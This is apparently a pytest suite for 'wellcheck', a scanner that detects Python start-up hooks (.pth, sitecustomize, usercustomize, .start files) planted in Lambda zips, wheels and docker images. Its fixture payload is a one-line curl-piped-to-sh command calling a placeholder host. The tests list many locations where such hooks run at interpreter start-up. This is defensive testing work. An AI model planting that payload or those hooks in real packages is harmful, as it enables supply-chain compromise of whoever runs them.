"""Issue 11, class 2: start-up hooks in every ``sys.path`` directory of each artifact kind.

Each case builds a real artifact file (a Lambda zip or layer, a wheel, a docker-save
image) with a hook in a place the runtime reads and *no* installed distribution beside it
(wellcheck used to look only next to a dist-info), then runs ``wellcheck scan`` on it.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from imagebuilder import Symlink, Value, build_docker_archive
from zipkit import WHEEL, RawMember, raw_zip, symlink, zip_bytes

from wellcheck.artifact.memory import MemoryTree
from wellcheck.inventory.syspath import TreeRole
from wellcheck.signals.startup import HookKind, startup_files

EVIL = b"import os; os.system('curl -s http://x | sh')\n"
HANDLER = b"def handler(event, context):\n    return 1\n"
STOCK_UBUNTU = (
    b"# install the apport exception handler if available\n"
    b"try:\n    import apport_python_hook\nexcept ImportError:\n    pass\n"
    b"else:\n    apport_python_hook.install()\n"
)
Scan = Callable[[Path], tuple[int, list[dict[str, object]], list[dict[str, object]]]]


@pytest.fixture
def scan(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Scan:
    """``wellcheck scan --no-advisories -f json ARTIFACT`` in this process: exit, findings.

    The findings are the start-up rules' own: what a hook's code does (the behaviour
    check) and the per-package verdict are tested elsewhere."""
    from wellcheck.cli import main

    monkeypatch.setenv("WELLCHECK_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.chdir(tmp_path)

    def run(artifact: Path) -> tuple[int, list[dict[str, object]], list[dict[str, object]]]:
        argv = ["wellcheck", "scan", "--no-advisories", "-f", "json", str(artifact)]
        monkeypatch.setattr(sys, "argv", argv)
        capsys.readouterr()
        with pytest.raises(SystemExit) as exited:
            main()
        report = json.loads(capsys.readouterr().out)
        (result,) = report["artifacts"]
        assert isinstance(exited.value.code, int)
        own = [f for f in result["findings"] if f["kind"] not in ("behaviour", "verdict")]
        return exited.value.code, own, result["not_checked"]

    return run


def zip_file(tmp_path: Path, files: dict[str, bytes], name: str = "function.zip") -> Path:
    path = tmp_path / name
    path.write_bytes(zip_bytes(files))
    return path


def image_file(
    tmp_path: Path, layer: dict[str, Value], env: tuple[str, ...] = (), workdir: str | None = None
) -> Path:
    base: dict[str, Value] = {"usr/local/lib/python3.12/os.py": b"# the stdlib\n"}
    return build_docker_archive(
        tmp_path / "image.tar", [base, layer], "gzip", env=env, workdir=workdir
    )


def wheel_file(tmp_path: Path, extra: dict[str, bytes]) -> Path:
    dist = "helper-1.0.dist-info"
    files = {
        "helper/__init__.py": b"",
        f"{dist}/METADATA": b"Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n\n",
        f"{dist}/WHEEL": WHEEL,
        **extra,
    }
    record = "".join(f"{name},,\n" for name in files) + f"{dist}/RECORD,,\n"
    return zip_file(tmp_path, {**files, f"{dist}/RECORD": record.encode()}, "helper-1.0.whl")


SITE312 = "usr/local/lib/python3.12/site-packages"
# (case id, build the artifact, where the hook is, rule, confidence)
Case = tuple[str, Callable[[Path], Path], str, str, str]
CASES: list[Case] = [
    # Lambda zips: /var/task (the function root) and a layer's /opt/python[/lib/...]
    ("zip-root-pth", lambda t: zip_file(t, {"app.py": HANDLER, "evil.pth": EVIL}),
     "evil.pth", "WC-PTH-EXEC", "high"),
    ("zip-root-sitecustomize", lambda t: zip_file(t, {"app.py": HANDLER, "sitecustomize.py": EVIL}),
     "sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "medium"),
    ("layer-python-pth", lambda t: zip_file(t, {"python/evil.pth": EVIL}, "layer.zip"),
     "python/evil.pth", "WC-PTH-EXEC", "high"),
    ("layer-site-packages-pth",
     lambda t: zip_file(t, {"python/lib/python3.12/site-packages/evil.pth": EVIL}, "layer.zip"),
     "python/lib/python3.12/site-packages/evil.pth", "WC-PTH-EXEC", "high"),
    ("layer-hidden-pth",
     lambda t: zip_file(t, {"python/lib/python3.11/site-packages/.x.pth": EVIL}, "layer.zip"),
     "python/lib/python3.11/site-packages/.x.pth", "WC-PTH-EXEC", "medium"),
    ("layer-form-feed-pth",
     lambda t: zip_file(t, {"python/lib/python3.13/site-packages/x.pth": b"#\x0c" + EVIL}),
     "python/lib/python3.13/site-packages/x.pth", "WC-PTH-EXEC", "high"),
    ("layer-bom-pth",
     lambda t: zip_file(t, {"python/lib/python3.13/site-packages/x.pth": b"\xef\xbb\xbf" + EVIL}),
     "python/lib/python3.13/site-packages/x.pth", "WC-PTH-EXEC", "high"),
    # CPython 3.15 (PEP 829): a .start file's entry points are called at start-up
    ("layer-start-file",
     lambda t: zip_file(t, {"python/lib/python3.15/site-packages/x.start": b"evil.hook:run\n"}),
     "python/lib/python3.15/site-packages/x.start", "WC-STARTUP-ENTRYPOINT", "high"),
    # a zip inside the function zip: runs only if something unpacks it onto sys.path
    ("nested-archive-pth", lambda t: zip_file(t, {"app.py": HANDLER,
                                                  "deps.zip": zip_bytes({"evil.pth": EVIL})}),
     "deps.zip!evil.pth", "WC-PTH-EXEC", "medium"),
    ("wheel-root-pth", lambda t: wheel_file(t, {"zzz.pth": EVIL}),
     "zzz.pth", "WC-PTH-EXEC", "high"),
    ("wheel-data-purelib-pth", lambda t: wheel_file(t, {"helper-1.0.data/purelib/zzz.pth": EVIL}),
     "helper-1.0.data/purelib/zzz.pth", "WC-PTH-EXEC", "high"),
    # pip installs .data/data into the prefix: its lib/python3.X[/site-packages] are the
    # interpreter's own directories there
    ("wheel-data-data-site-packages-pth",
     lambda t: wheel_file(t, {"helper-1.0.data/data/lib/python3.12/site-packages/zzz.pth": EVIL}),
     "helper-1.0.data/data/lib/python3.12/site-packages/zzz.pth", "WC-PTH-EXEC", "high"),
    ("wheel-data-data-stdlib-sitecustomize",
     lambda t: wheel_file(t, {"helper-1.0.data/data/lib/python3.12/sitecustomize.py": EVIL}),
     "helper-1.0.data/data/lib/python3.12/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
    # a .pth path line puts its directory on sys.path before site.py imports the
    # customize modules
    ("wheel-pth-path-line-usercustomize", lambda t: wheel_file(t, {
        "helper.pth": b"helper_vendor\n", "helper_vendor/usercustomize.py": EVIL}),
     "helper_vendor/usercustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
    ("image-pth-path-line-sitecustomize", lambda t: image_file(t, {
        f"{SITE312}/vendor.pth": b"# vendored\nvendor\n",
        f"{SITE312}/vendor/sitecustomize.py": EVIL}),
     f"{SITE312}/vendor/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
    # images: the interpreter's site and stdlib directories, venvs, Lambda base images
    ("image-debian-dist-packages",
     lambda t: image_file(t, {"usr/lib/python3/dist-packages/evil.pth": EVIL}),
     "usr/lib/python3/dist-packages/evil.pth", "WC-PTH-EXEC", "high"),
    ("image-local-dist-packages",
     lambda t: image_file(t, {"usr/local/lib/python3.11/dist-packages/evil.pth": EVIL}),
     "usr/local/lib/python3.11/dist-packages/evil.pth", "WC-PTH-EXEC", "high"),
    ("image-site-packages", lambda t: image_file(t, {f"{SITE312}/evil.pth": EVIL}),
     f"{SITE312}/evil.pth", "WC-PTH-EXEC", "high"),
    ("image-free-threaded",
     lambda t: image_file(t, {"usr/local/lib/python3.13t/site-packages/evil.pth": EVIL}),
     "usr/local/lib/python3.13t/site-packages/evil.pth", "WC-PTH-EXEC", "high"),
    ("image-venv", lambda t: image_file(t, {
        "app/.venv/pyvenv.cfg": b"home = /usr/local/bin\n",
        "app/.venv/lib/python3.12/site-packages/evil.pth": EVIL}),
     "app/.venv/lib/python3.12/site-packages/evil.pth", "WC-PTH-EXEC", "high"),
    ("image-lambda-task", lambda t: image_file(t, {
        "var/lang/lib/python3.12/os.py": b"", "var/task/app.py": HANDLER,
        "var/task/evil.pth": EVIL}),
     "var/task/evil.pth", "WC-PTH-EXEC", "high"),
    ("image-lambda-runtime-site",
     lambda t: image_file(t, {"var/lang/lib/python3.12/site-packages/sitecustomize.py": EVIL}),
     "var/lang/lib/python3.12/site-packages/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
    ("image-user-site", lambda t: image_file(t, {
        "root/.local/lib/python3.12/site-packages/usercustomize.py": EVIL}),
     "root/.local/lib/python3.12/site-packages/usercustomize.py",
     "WC-STARTUP-SITECUSTOMIZE", "high"),
    ("image-stdlib-sitecustomize",
     lambda t: image_file(t, {"usr/local/lib/python3.12/sitecustomize.py": EVIL}),
     "usr/local/lib/python3.12/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
    ("image-lib-dynload-extension", lambda t: image_file(t, {
        "usr/local/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so":
        b"\x7fELF"}),
     "usr/local/lib/python3.12/lib-dynload/sitecustomize.cpython-312-x86_64-linux-gnu.so",
     "WC-STARTUP-SITECUSTOMIZE", "high"),
    ("image-symlinked-site-packages", lambda t: image_file(t, {
        SITE312: Symlink("../../../../../../srv/sp"), "srv/sp/evil.pth": EVIL}),
     f"{SITE312}/evil.pth", "WC-PTH-EXEC", "high"),
    # a sys.path directory that is not a site directory: same severity, medium confidence
    ("image-stdlib-pth", lambda t: image_file(t, {"usr/local/lib/python3.12/evil.pth": EVIL}),
     "usr/local/lib/python3.12/evil.pth", "WC-PTH-EXEC", "medium"),
    ("image-ubuntu-sitecustomize-changed", lambda t: image_file(t, {
        "usr/lib/python3.12/os.py": b"",
        "usr/lib/python3.12/sitecustomize.py": Symlink("/etc/python3.12/sitecustomize.py"),
        "etc/python3.12/sitecustomize.py": b"# coding: utf-7\n" + STOCK_UBUNTU}),
     "usr/lib/python3.12/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("build", "where", "rule", "confidence"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_a_hook_where_the_runtime_reads_it_fails_the_scan(
    tmp_path: Path,
    scan: Scan,
    build: Callable[[Path], Path],
    where: str,
    rule: str,
    confidence: str,
) -> None:
    code, findings, not_checked = scan(build(tmp_path))
    hooks = [f for f in findings if f["kind"] == "startup"]
    assert [(f["rule"], f["location"], f["severity"]) for f in hooks] == [(rule, where, "high")]
    assert hooks[0]["confidence"] == confidence
    assert (code, not_checked) == (1, [])


NOT_HOOKS: list[tuple[str, dict[str, Value]]] = [
    ("data-dir-pth", {"srv/data/evil.pth": EVIL}),  # on no sys.path
    ("image-root-sitecustomize", {"sitecustomize.py": EVIL}),  # / is not on sys.path
    ("venv-lib-sitecustomize", {  # a venv's lib/python3.X is not its stdlib
        "app/.venv/pyvenv.cfg": b"home = /usr/local/bin\n",
        "app/.venv/lib/python3.12/sitecustomize.py": EVIL}),
    ("inside-a-package", {f"{SITE312}/ddtrace/__init__.py": b"",
                          f"{SITE312}/ddtrace/sitecustomize.py": EVIL}),
]  # fmt: skip


@pytest.mark.parametrize("layer", [c[1] for c in NOT_HOOKS], ids=[c[0] for c in NOT_HOOKS])
def test_files_no_runtime_reads_at_start_up_are_not_hooks(
    tmp_path: Path, scan: Scan, layer: dict[str, Value]
) -> None:
    code, findings, _ = scan(image_file(tmp_path, layer))
    assert (code, [f for f in findings if f["kind"] == "startup"]) == (0, [])


def test_the_images_pythonpath_is_on_sys_path_at_start_up(tmp_path: Path, scan: Scan) -> None:
    """``ENV PYTHONPATH=/app:...``: site.py imports /app/sitecustomize.py; a .pth there is
    not processed (not a site directory) but is still reported (medium confidence)."""
    layer: dict[str, Value] = {
        "app/main.py": HANDLER,
        "app/sitecustomize.py": EVIL,
        "srv/lib/evil.pth": EVIL,
    }
    code, findings, _ = scan(image_file(tmp_path, layer))
    assert (code, findings) == (0, [])  # without PYTHONPATH neither is on sys.path
    image = image_file(tmp_path, layer, env=("PYTHONPATH=/app:/srv/./lib:relative",))
    code, findings, _ = scan(image)
    assert code == 1
    assert sorted((f["location"], f["rule"], f["confidence"]) for f in findings) == [
        ("app/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
        ("srv/lib/evil.pth", "WC-PTH-EXEC", "medium"),
    ]


def test_relative_and_repeated_pythonpath_entries_are_where_cpython_puts_them(
    tmp_path: Path, scan: Scan
) -> None:
    """CPython makes each PYTHONPATH entry absolute against the working directory (an
    empty entry is that directory itself); an image that sets PYTHONPATH twice runs with
    the first setting (moby and containerd keep both, getenv returns the first).  Such
    hooks used to pass: wellcheck skipped relative entries and kept the last setting."""
    layer: dict[str, Value] = {
        "app/sitecustomize.py": EVIL,
        "app/src/usercustomize.py": EVIL,
        "first/sitecustomize.py": EVIL,
    }
    env = ("PYTHONPATH=:src", "PYTHONPATH=/first", "PYTHONPATH=/second")
    code, findings, _ = scan(image_file(tmp_path, layer, env, workdir="/app"))
    assert code == 1
    assert sorted((f["location"], f["rule"], f["confidence"]) for f in findings) == [
        ("app/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
        ("app/src/usercustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
        ("first/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
    ]


def test_pth_path_lines_count_only_where_site_py_reads_them_at_start_up(
    tmp_path: Path, scan: Scan
) -> None:
    """An absolute path line of a site-packages .pth names an image directory: a
    sitecustomize there runs at every start-up (the line itself is reported as leaving
    the site root).  Lambda's bootstrap processes /var/task's .pth files only after
    start-up, when sitecustomize has been imported: the directory they name holds no hook.
    """
    layer: dict[str, Value] = {
        f"{SITE312}/extra.pth": b"/srv/lib\n",
        "srv/lib/sitecustomize.py": EVIL,
        "var/lang/lib/python3.12/os.py": b"",
        "var/task/deps.pth": b"deps\n",
        "var/task/deps/sitecustomize.py": EVIL,
    }
    code, findings, _ = scan(image_file(tmp_path, layer))
    assert code == 1
    assert sorted((f["location"], f["rule"], f["severity"]) for f in findings) == [
        ("srv/lib/sitecustomize.py", "WC-STARTUP-SITECUSTOMIZE", "high"),
        (f"{SITE312}/extra.pth", "WC-PTH-PATH", "info"),
    ]


def test_ubuntus_stock_sitecustomize_is_named_but_passes(tmp_path: Path, scan: Scan) -> None:
    image = image_file(
        tmp_path,
        {
            "usr/lib/python3.12/os.py": b"",
            "usr/lib/python3.12/sitecustomize.py": Symlink("/etc/python3.12/sitecustomize.py"),
            "etc/python3.12/sitecustomize.py": STOCK_UBUNTU,
        },
    )
    code, findings, _ = scan(image)
    (finding,) = findings
    assert (finding["rule"], finding["severity"]) == ("WC-STARTUP-SITECUSTOMIZE", "info")
    assert "apport" in str(finding["title"]) and code == 0


def test_a_hook_behind_a_link_out_of_a_zip_is_refused(tmp_path: Path, scan: Scan) -> None:
    """Lambda unpacks the zip at /var/task: '/opt/...' is another artifact's file, and
    zipfile/pip would write the link as a regular file: the readers disagree, exit 2."""
    site = "python/lib/python3.12/site-packages"
    members = [RawMember(f"{site}/ok.py", b""), symlink(f"{site}/evil.pth", "/opt/x/evil.pth")]
    artifact = tmp_path / "layer.zip"
    artifact.write_bytes(raw_zip(members))
    code, findings, _ = scan(artifact)
    assert code == 2 and findings == []


def test_a_stdlib_zip_on_sys_path_is_read(tmp_path: Path, scan: Scan) -> None:
    """``lib/python312.zip`` is on every interpreter's sys.path: a sitecustomize inside runs.
    Archives nested in a directory or in an image are opened and read."""
    stdlib_zip = zip_bytes({"sitecustomize.py": EVIL})
    rootfs = tmp_path / "rootfs"
    (rootfs / "var/lang/lib").mkdir(parents=True)
    (rootfs / "var/lang/lib/python312.zip").write_bytes(stdlib_zip)
    code, findings, not_checked = scan(rootfs)
    assert [(f["rule"], f["location"], f["confidence"]) for f in findings] == [
        ("WC-STARTUP-SITECUSTOMIZE", "var/lang/lib/python312.zip!sitecustomize.py", "high")
    ]
    assert (code, not_checked) == (1, [])
    code, findings, not_checked = scan(
        image_file(tmp_path, {"var/lang/lib/python312.zip": stdlib_zip})
    )
    assert [(f["rule"], f["location"], f["confidence"]) for f in findings] == [
        ("WC-STARTUP-SITECUSTOMIZE", "var/lang/lib/python312.zip!sitecustomize.py", "high")
    ]
    assert (code, not_checked) == (1, [])


# (path in a Lambda base image, kind, whether the runtime runs it from there)
LISTING: list[tuple[str, HookKind, bool]] = [
    ("var/task/a.pth", HookKind.PTH, True),  # bootstrap: site.addsitedir('/var/task')
    ("var/task/sitecustomize.py", HookKind.SITECUSTOMIZE, False),  # joins sys.path too late
    ("opt/python/b.pth", HookKind.PTH, True),
    ("opt/python/lib/python3.12/site-packages/c.pth", HookKind.PTH, True),
    ("var/lang/lib/python3.12/site-packages/d.pth", HookKind.PTH, True),
    ("var/lang/lib/python3.12/e.pth", HookKind.PTH, False),  # stdlib: not a site dir
    ("var/lang/lib/python3.12/sitecustomize.py", HookKind.SITECUSTOMIZE, True),
    ("var/lang/lib/python3.12/site-packages/usercustomize/__init__.py",
     HookKind.USERCUSTOMIZE, True),
]  # fmt: skip


def test_startup_files_lists_kind_and_whether_the_runtime_runs_it() -> None:
    tree = MemoryTree({path: b"" for path, _, _ in LISTING})
    listing = startup_files(tree, TreeRole.FILESYSTEM)
    found = sorted((h.source, h.kind, h.executed) for h in listing.files)
    assert found == sorted(LISTING) and listing.unreadable == ()
    package = next(h for h in listing.files if h.kind is HookKind.USERCUSTOMIZE)
    assert package.path == "var/lang/lib/python3.12/site-packages/usercustomize"
